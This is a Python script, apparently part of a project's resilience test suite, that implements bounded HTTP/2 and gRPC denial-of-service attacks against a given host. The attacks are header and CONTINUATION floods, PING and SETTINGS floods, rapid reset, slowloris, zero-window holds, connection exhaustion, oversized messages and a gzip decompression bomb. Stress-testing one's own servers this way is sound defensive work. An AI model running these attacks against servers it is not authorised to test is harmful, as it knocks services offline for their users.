#!/usr/bin/env python3
# Copyright The Millrace Authors
# SPDX-License-Identifier: Apache-2.0
"""What a client can do to a server that it only needs to reach. Every attack is bounded in time, in
connections and in bytes, and may be told to go to a sink instead.

    attacks.py NAME HOST:PORT SECONDS

prints, as JSON, what was sent, over how many connections, and how many of them the other side has
closed.
"""

import contextlib
import gzip
import json
import pathlib
import resource
import select
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "chaos"))
from http2 import (ACK, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,  # noqa: E402
                   METHOD_POST, PING, RST_STREAM, SCHEME_HTTP, SETTINGS, frame, literal)

DATA, CONTINUATION = 0, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
FRAME = 16_384  # The most that a frame's payload may be, unless agreed otherwise.
MIB = 1 << 20
# A request of the model `identity`: its name, one input [1, 16] of FP32, and its 64 bytes.
REQUEST = bytes.fromhex("0a086964656e74697479" "2a14" "0a08494e5055545f5f30" "1204" "46503332"
                        "1a020110" "3a40") + bytes(64)


def settings(**values):
    """A client's first bytes."""
    window = values.get("window")
    payload = b"" if window is None else struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def call_headers(encoding=""):
    fields = {":path": INFER, ":authority": "a", "te": "trailers",
              "content-type": "application/grpc"}
    if encoding:
        fields["grpc-encoding"] = encoding
    return METHOD_POST + SCHEME_HTTP + b"".join(literal(*field) for field in fields.items())


def integer(value, prefix_bits):
    """An integer of HPACK, without the bits before its prefix."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes((value,))
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes((*out, value))


class Peer:
    """One connection of an attacker; what comes back is read and thrown away where `reads`."""

    def __init__(self, attack, reads=True, source=None):
        self._attack, self._reads = attack, reads
        self.open = False
        try:
            self.socket = socket.create_connection(attack.address, timeout=2, source_address=source)
        except OSError:
            attack.refused += 1
            return
        self.socket.setblocking(False)
        self.open = True
        attack.connections += 1
        attack.peers.append(self)

    def send(self, data):
        """All of it, unless time is up or the other side has closed; whether it went on."""
        view = memoryview(data)
        while view and self.open and self._attack.goes_on():
            self.drain()
            try:
                sent = self.socket.send(view)
                self._attack.sent += sent
                view = view[sent:]
            except BlockingIOError:
                waits_for = [self.socket] if self._reads else []
                select.select(waits_for, [self.socket], [], 0.05)
            except OSError:
                self.lost()
        return self.open and self._attack.goes_on()

    def drain(self):
        """Looks whether it is still open, and takes what came back."""
        try:
            flags = 0 if self._reads else socket.MSG_PEEK
            while self.open and (got := self.socket.recv(1 << 16, flags)) is not None:
                if not got:
                    self.lost()
                elif not self._reads:
                    return
        except BlockingIOError:
            pass
        except OSError:
            self.lost()

    def lost(self):
        if self.open:
            self.open = False
            self._attack.lost += 1

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


class Attack:
    """Its methods are the attacks."""

    def __init__(self, address, seconds):
        host, port = address.rsplit(":", 1)
        self.address = host, int(port)
        self.sent = self.connections = self.refused = self.lost = 0
        self.peers = []
        self._until = time.monotonic() + seconds

    def goes_on(self):
        return time.monotonic() < self._until

    def report(self):
        for peer in self.peers:
            peer.drain()
        return {"sent": self.sent, "connections": self.connections, "refused": self.refused,
                "lost": self.lost}

    def hold(self):
        """Waits until time is up."""
        while self.goes_on():
            for peer in self.peers:
                peer.drain()
            time.sleep(0.05)

    # ---- Headers ----

    def header_string(self):
        """One header of 12 MiB, in CONTINUATION frames; gRPC 1.51 takes seconds to read it."""
        size = 12 * MIB
        block = b"\0" + integer(1, 7) + b"a" + integer(size, 7)
        peer = Peer(self)
        if peer.open and peer.send(settings() + frame(HEADERS, 0, 1, block)):
            piece = frame(CONTINUATION, 0, 1, b"x" * FRAME) * 16
            for _ in range(size // FRAME // 16):
                if not peer.send(piece):
                    break
        self.hold()

    def continuations(self):
        """A header block that has no end: frames of no bytes, 64 MiB of them at most."""
        peer = Peer(self)
        if peer.open and peer.send(settings() + frame(HEADERS, 0, 1, METHOD_POST)):
            piece = frame(CONTINUATION, 0, 1) * 5000
            while self.sent < 64 * MIB and peer.send(piece):
                pass
        self.hold()

    def many_headers(self):
        """16 MiB of ordinary headers in one block, with gRPC's settings never acknowledged."""
        peer = Peer(self)
        if peer.open and peer.send(settings() + frame(HEADERS, 0, 1, METHOD_POST)):
            field = b"\0" + integer(1, 7) + b"b" + integer(4000, 7) + b"y" * 4000
            piece = frame(CONTINUATION, 0, 1, field) * 16
            while self.sent < 16 * MIB and peer.send(piece):
                pass
        self.hold()

    # ---- Frames that are cheap to send ----

    def flood(self, piece, most_bytes=64 * MIB):
        peer = Peer(self)
        if peer.open and peer.send(settings() + frame(SETTINGS, ACK, 0)):
            while self.sent < most_bytes and peer.send(piece):
                pass
        self.hold()

    def pings(self):
        self.flood(frame(PING, 0, 0, b"12345678") * 2000)

    def settings_frames(self):
        self.flood(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)) * 2000)

    def empty_data(self):
        """DATA of no bytes, which no window holds back."""
        peer = Peer(self)
        if peer.open and peer.send(settings() + frame(HEADERS, END_HEADERS, 1, call_headers())):
            while self.sent < 64 * MIB and peer.send(frame(DATA, 0, 1) * 2000):
                pass
        self.hold()

    def rapid_reset(self):
        """Calls that are cancelled as soon as they are made, 200,000 at most."""
        peer = Peer(self)
        headers, number = call_headers(), 1
        if peer.open and peer.send(settings() + frame(SETTINGS, ACK, 0)):
            while number < 400_000:
                piece = b"".join(
                    frame(HEADERS, END_HEADERS, each, headers) +
                    frame(RST_STREAM, 0, each, struct.pack(">I", 8))
                    for each in range(number, number + 400, 2))
                number += 400
                if not peer.send(piece):
                    break
        self.hold()

    # ---- Clients that hold something ----

    def zero_window(self):
        """300 calls whose answers can't be sent, since the client takes no byte of them."""
        peer = Peer(self)
        message = struct.pack(">BI", 0, len(REQUEST)) + REQUEST
        calls = b"".join(frame(HEADERS, END_HEADERS, number, call_headers()) +
                         frame(DATA, END_STREAM, number, message) for number in range(1, 600, 2))
        if peer.open:
            peer.send(settings(window=0) + frame(SETTINGS, ACK, 0) + calls)
        self.hold()

    def unread(self):
        """Calls for ever whose answers nobody takes from the socket."""
        peer = Peer(self, reads=False)
        message = struct.pack(">BI", 0, len(REQUEST)) + REQUEST
        number = 1
        if peer.open and peer.send(settings() + frame(SETTINGS, ACK, 0)):
            while number < 40_000:
                calls = b"".join(frame(HEADERS, END_HEADERS, each, call_headers()) +
                                 frame(DATA, END_STREAM, each, message)
                                 for each in range(number, number + 100, 2))
                number += 100
                if not peer.send(calls):
                    break
        self.hold()

    def slow_loris(self):
        """300 clients that send a byte every tenth of a second."""
        data = settings() + frame(HEADERS, 0, 1, call_headers())
        peers = [Peer(self) for _ in range(300)]
        for at in range(len(data)):
            begin = time.monotonic()
            for peer in peers:
                if peer.open:
                    peer.send(data[at:at + 1])
            if not self.goes_on():
                break
            time.sleep(max(0, 0.1 - (time.monotonic() - begin)))
        self.hold()

    def descriptors(self):
        """Connections that are opened and closed as fast as may be, 64 at a time, 20,000 in all."""
        opened = 0
        while self.goes_on() and opened < 20_000:
            batch = [Peer(self) for _ in range(64)]
            opened += len(batch)
            for peer in batch:
                if peer.open:
                    peer.drain()
                    peer.close()
                    self.peers.remove(peer)
        self.hold()

    def idle(self):
        """10,000 connections that have said hello and nothing else, from 50 addresses."""
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        for number in range(min(10_000, hard - 100)):
            if not self.goes_on():
                break
            peer = Peer(self, source=(f"127.0.1.{1 + number % 50}", 0))
            if peer.open:
                peer.send(settings())
        self.hold()

    # ---- Messages ----

    def call(self, data, encoding=""):
        """One call with such data, in frames; the server's window holds it back."""
        peer = Peer(self)
        if not peer.open or not peer.send(settings() + frame(SETTINGS, ACK, 0) + frame(
                HEADERS, END_HEADERS, 1, call_headers(encoding))):
            return
        for at in range(0, len(data), FRAME):
            if not peer.send(frame(DATA, 0, 1, data[at:at + FRAME])):
                break

    def huge_message(self):
        """Messages that say that they have 4 GiB, and send 1 MiB of it; 100 at most."""
        data = struct.pack(">BI", 0, (1 << 32) - 1) + bytes(MIB)
        for _ in range(100):
            if self.goes_on():
                self.call(data)
        self.hold()

    def bomb(self):
        """Messages of 64 KiB that become 64 MiB and a bit when they are decompressed; 20 at most."""
        packed = gzip.compress(bytes(64 * MIB + 4096), 6)
        data = struct.pack(">BI", 1, len(packed)) + packed
        for _ in range(20):
            if self.goes_on():
                self.call(data, "gzip")
        self.hold()


NAMES = ("header_string", "continuations", "many_headers", "pings", "settings_frames", "empty_data",
         "rapid_reset", "zero_window", "unread", "slow_loris", "descriptors", "idle",
         "huge_message", "bomb")


def main():
    name, address, seconds = sys.argv[1:]
    attack = Attack(address, float(seconds))
    getattr(attack, name)()
    print(json.dumps(attack.report()))


if __name__ == "__main__":
    main()
